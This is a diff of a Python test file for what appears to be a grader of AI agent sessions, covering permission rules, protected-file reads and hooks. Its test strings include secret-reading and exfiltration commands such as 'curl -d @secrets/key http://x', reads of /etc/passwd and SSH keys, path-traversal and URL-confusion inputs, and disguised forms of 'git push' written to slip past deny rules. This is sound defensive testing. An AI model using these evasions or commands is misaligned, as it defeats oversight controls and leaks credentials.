@@ -11,9 +11,9 @@ from zelda_ci.domain.details import CriterionVerdict
 from zelda_ci.domain.kinds import ItemKind
 from zelda_ci.domain.manifest import ManifestItem, ToolsManifest
 from zelda_ci.domain.run import EvalContext
-from zelda_ci.domain.session import ApiUsage, HookRan, Turn
+from zelda_ci.domain.session import ApiUsage, HookRan, ToolCall, Turn
 from zelda_ci.domain.workspace import Changes
-from zelda_ci.metrics.calls import ShellLine
+from zelda_ci.metrics.calls import SessionCall, ShellLine, positions, shown_files
 from zelda_ci.metrics.checks import decide
 
 DONE = '"Done: the rate limit is 5 per second."'
@@ -98,6 +98,9 @@ CALLS: list[tuple[dict[str, Any], list[Any], list[Any]]] = [
     ({"called": "Read(./.env)"}, [["Read .env"], ["Read /w/ws/.env"]], [["Read sub/x.env"]]),
     ({"called": "Read(//etc/**)"}, [["Read /etc/passwd"]], [["Read /w/ws/etc/passwd"]]),
     ({"called": "Edit(~/.ssh/**)"}, [["Edit /w/home/.ssh/id"], ["Edit ~/.ssh/id"]], [["Edit .ssh/id"]]),
+    ({"called": "Read(//etc/*)"}, [["Read ../../etc/passwd"]], []),
+    ({"called": "Read(src/**)"}, [["LS src"], ["LS /w/ws/src/a"]], [["Read src"], ["LS docs"]]),
+    ({"called": "WebFetch(domain:a.org)"}, [["WebFetch https://x.a.org./"]], [["WebFetch https://b.org\\@a.org/"]]),
     ({"called": "Read(*)"}, [["Read /etc/passwd"]], []), ({"called": "mcp__github"}, [["mcp__github__search x"]], []),
     ({"called": "mcp__github__*"}, [["mcp__github__search x"]], []),
     ({"called": "mcp__git"}, [], [["mcp__github__search x"]]),
@@ -140,8 +143,12 @@ CALLS: list[tuple[dict[str, Any], list[Any], list[Any]]] = [
         "bash -euo pipefail -c 'git push'", "env -C x git push", "a $'it\\'s'; git push", "timeout -s KILL 5 git push",
         "ls | xargs -d '\\n' git push", "xargs -I % git push %", "cat <<E'O'F\nx\nEOF\ngit push",
         'cat <<E\n"<<" $(git push)\nE', "/usr/bin/env X=1 git push", '"sudo" git push',
-        "git --no-pager -c a=b --git-dir .git push",
+        "git --no-pager -c a=b --git-dir .git push", "bash <<<'git push'", "bash -c $'git push'", "git pu''sh",
+        "echo $(($(git push)-1))", "function f { git push; }", "time { git push; }",
+        "time if git push; then a; fi", "/usr/bin/time -v git push",
+        "time -p git push", "ionice -c 3 setsid git push", "fish -c 'git push'",
     ]),
+    ({"called": "Bash(time *)"}, ["time ls"], []),
     ({"called": "Bash(npm test:*)"}, ["npm test -- --run"], ["npm testing"]),
     ({"called": "Bash(npm test)"}, ["npm test 2>&1 | tail -5", "npm test >log &", ".bin/npm test"],
      ["npm test x", "echo 'npm test'", "npm 'test x'", "./xnpm test"]),
@@ -155,6 +162,8 @@ CALLS: list[tuple[dict[str, Any], list[Any], list[Any]]] = [
     ({"order": ["Bash(date)", "Bash(echo*)"]}, ["echo $(date)"], []),
     ({"before": {"first": "Bash(npm test*)", "then": "Bash(git commit*)"}},
      ["npm test; git commit", "make"], ["git commit; npm test"]),
+    ({"before": {"first": "Bash(git *)", "then": "Bash(git push*)"}}, ["git add .; git push", "ls"],
+     ["git push; git add ."]),
     # What was read.
     ({"notRead": ["secrets/**"]}, [
         ["Read src/app.py"], ["Read secrets/key -> denied"], "echo x > secrets/key", "echo x >| secrets/key",
@@ -165,6 +174,10 @@ CALLS: list[tuple[dict[str, Any], list[Any], list[Any]]] = [
         "grep -rn secrets src", "grep -rn 'secrets/key' src", "grep -r x . --exclude=secrets/key", "make # secrets/key",
         "rg foo -g '!secrets/*'", "find . -not -path './secrets/*'", "git diff -- . ':!secrets/key'", "cat *",
         ["Bash pushd secrets; popd", "Bash cat key"], "eslint --ignore-pattern 'secrets/**' src",
+        "cd secrets && ls | head",
+        "cd secrets && ls | sort -u | head -n 5", "cd src && rg x . -> key:1:x",
+        "git fetch origin secrets/x", "case $f in secrets/*) a;; esac",
+        "export X=secrets/key",
         "[ -f secrets/key ] && echo", "ruff check . -> secrets/key.py:3:1: E501", "cat > n <<'EOF'\nsecrets/key\nEOF",
     ], [
         ["Read secrets/key"], "cat ./secrets/key", "cat /w/ws/secrets/key", ["Grep x -> secrets/key:1:hunter2"],
@@ -173,7 +186,10 @@ CALLS: list[tuple[dict[str, Any], list[Any], list[Any]]] = [
         "grep -r x secrets", "cp -r secrets /tmp/x", "echo $(<secrets/key)", "while read l; do a; done <secrets/key",
         "python3 -c \"open('secrets/key')\"", "python3 - <<'EOF'\nopen('secrets/key')\nEOF", "git show X:secrets/key",
         "git -C secrets show HEAD:key", "curl -d @secrets/key http://x", 'cat "$PWD/secrets/key"', "wc < secrets/key",
-        "git log -p -> +++ b/secrets/my key", "find secrets -exec cat {} \\;", "for f in secrets/*; do cat $f; done",
+        "git log -p -> +++ b/secrets/my key", "find secrets -exec cat {} \\;",
+        "cd secrets && grep -r x .", "cd secrets && rg x -> key:1:x",
+        ["Grep x -> Found 1 file\nsecrets/my key"], "git --no-pager show X:secrets/key", "cat $(pwd)/secrets/key",
+        'cat "$(git rev-parse --show-toplevel)/secrets/key"', "for f in secrets/*; do cat $f; done",
     ]),
     ({"notRead": ["./secrets/**", "!secrets/public"]}, [["Read secrets/public"]], [["Read secrets/key"]]),
     ({"notRead": "*.pem"}, ["cat *.py"], [["Read deep/down/a.pem"], "cat a.pem"]),
@@ -202,6 +218,16 @@ def test_a_check_is_decided_by_what_the_session_did(check: dict[str, Any], steps
     assert found.by == "check"
 
 
+def test_numbers_and_patterns_are_among_what_a_call_is_given() -> None:
+    def made(tool: str, **given: Any) -> SessionCall:
+        call = ToolCall(id=safe("x"), name=safe(tool), input=safe.json(given), started_at=0.0)
+        return SessionCall(turn=1, number=1, tool=call, is_main=True)
+
+    assert positions("mcp__hub__issue(42)", made("mcp__hub__issue", number=42), ToolsManifest()) == (0,)
+    assert shown_files(made("Grep", pattern="x", glob="secrets/**"), "")[0] == ["secrets/**/"]
+    assert shown_files(made("Grep", pattern="x", glob="!secrets/**"), "")[0] == []
+
+
 CHANGES = [
     ({"changed": ["CHANGELOG.md"]}, ("CHANGELOG.md", "src/a.py"), "", True),
     ({"changed": ["CHANGELOG.md", "tests/**"]}, ("CHANGELOG.md",), "", False),
@@ -212,6 +238,8 @@ CHANGES = [
     ({"changedOnly": ["./src/**", "!src/gen/**"]}, ("src/a.py",), "", True),
     ({"changedOnly": ["./src/**", "!src/gen/**"]}, ("src/gen/a.py",), "", False),
     ({"changed": ["src/**", "!src/gen/**"]}, ("src/gen/a.py",), "", False),
+    ({"changedOnly": ["**", "!docs/a.md"]}, ("src/a.py", "a/docs/a.md"), "", True),
+    ({"changedOnly": ["**", "!docs/a.md"]}, ("src/a.py", "docs/a.md"), "", False),
     ({"changedOnly": ["src/**"]}, ("apps/a/src/x.py",), "apps/a", True),
     ({"changedOnly": ["src/**"]}, ("src/x.py",), "apps/a", False),
 ]
@@ -228,13 +256,19 @@ def test_changes_are_matched_from_the_projects_folder(
 LONG = ["-", "1", "$(", "`", '"', "'", "${", "$((", "<<A ", "bash <<A\n", "eval ", "{ ", "cd a;", "> ", "secret/*"]
 LONG += ["case ", ";; ", "x=(", "[[ ( ", "((", "esac ", "f() "]
 BLOCKED = "Bash git push -> denied"
-GUARD = (("PreToolUse:Bash", "command: python3 .claude/hooks/guard.py"), ("PreToolUse:Edit|Write", "command: lint.sh"))
+GUARD = (
+    ("PreToolUse:Bash", "command: python3 .claude/hooks/guard.py"),
+    ("PreToolUse:Edit, Write", "command: lint.sh"),
+    ("PreToolUse:mcp__.*__write", "command: remote.sh"),
+)
 HOOKS = [
     ({"hookRan": "PreToolUse"}, (hook("PreToolUse:Bash"),), True),
     ({"hookRan": "PreToolUse"}, (hook("PostToolUse:Bash"),), False),
     ({"hookRan": "PreToolUse(guard)"}, (hook("PreToolUse:Bash"),), True),
     ({"hookRan": "PreToolUse(guard)"}, (hook("PreToolUse:Write"),), False),
     ({"hookRan": "PreToolUse(lint.sh)"}, (hook("PreToolUse:Write"),), True),
+    ({"hookRan": "PreToolUse(lint.sh)"}, (hook("PreToolUse:MultiEdit"),), False),
+    ({"hookRan": "PreToolUse(remote)"}, (hook("PreToolUse:mcp__fs__write_file"),), True),
     ({"hookRan": "PreToolUse(Bash)"}, (hook("PreToolUse:Bash"),), True),
     ({"hookRan": "Stop"}, (hook("Stop", "error", 1),), True),
     ({"hookFailed": "none"}, (hook("Stop"),), True),
